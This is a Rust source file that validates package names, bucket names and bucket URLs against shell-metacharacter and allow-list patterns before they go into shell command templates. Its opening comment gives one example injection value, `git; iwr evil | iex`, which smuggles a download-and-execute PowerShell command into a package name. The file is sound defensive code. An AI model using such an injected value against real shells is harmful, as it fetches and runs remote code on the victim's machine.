//! Input validation for values spliced into shell command templates.
//!
//! Package names, bucket names and bucket URLs come from user input,
//! search output and snapshot files. They are checked before any template
//! renders them so a value like `git; iwr evil | iex` never reaches a shell.

use crate::error::{DeskError, Result};
use regex::Regex;
use std::sync::LazyLock;

const MAX_NAME_LEN: usize = 256;

/// Alphanumerics plus `@ . _ + / -` (scoped and bucket-qualified names)
static SAFE_PACKAGE_NAME: LazyLock<Regex> = LazyLock::new(|| {
    #[allow(clippy::expect_used)]
    Regex::new(r"^[a-zA-Z0-9@._+/-]+$").expect("static package name pattern")
});

/// Characters with meaning to PowerShell or a POSIX shell
static SHELL_DANGEROUS: LazyLock<Regex> = LazyLock::new(|| {
    #[allow(clippy::expect_used)]
    Regex::new(r#"[;`$(){}|&<>\\'"\s]"#).expect("static shell pattern")
});

/// Validate a package or bucket name is safe for shell execution.
pub fn validate_package_name(name: &str) -> Result<()> {
    if name.is_empty() {
        return Err(DeskError::InvalidInput(
            "package name cannot be empty".to_string(),
        ));
    }
    if name.len() > MAX_NAME_LEN {
        return Err(DeskError::InvalidInput(format!(
            "package name too long (max {} chars): {}",
            MAX_NAME_LEN,
            name.chars().take(50).collect::<String>()
        )));
    }
    if SHELL_DANGEROUS.is_match(name) {
        return Err(DeskError::InvalidInput(format!(
            "package name contains unsafe characters: {}",
            name
        )));
    }
    if !SAFE_PACKAGE_NAME.is_match(name) {
        return Err(DeskError::InvalidInput(format!(
            "package name contains invalid characters: {}",
            name
        )));
    }
    if name.contains("..") {
        return Err(DeskError::InvalidInput(format!(
            "package name cannot contain path traversal: {}",
            name
        )));
    }
    Ok(())
}

/// A bucket source URL must be a single shell word with no metacharacters.
pub fn validate_bucket_url(url: &str) -> Result<()> {
    if url.is_empty() || SHELL_DANGEROUS.is_match(url) {
        return Err(DeskError::InvalidInput(format!(
            "bucket URL contains unsafe characters: {}",
            url
        )));
    }
    Ok(())
}
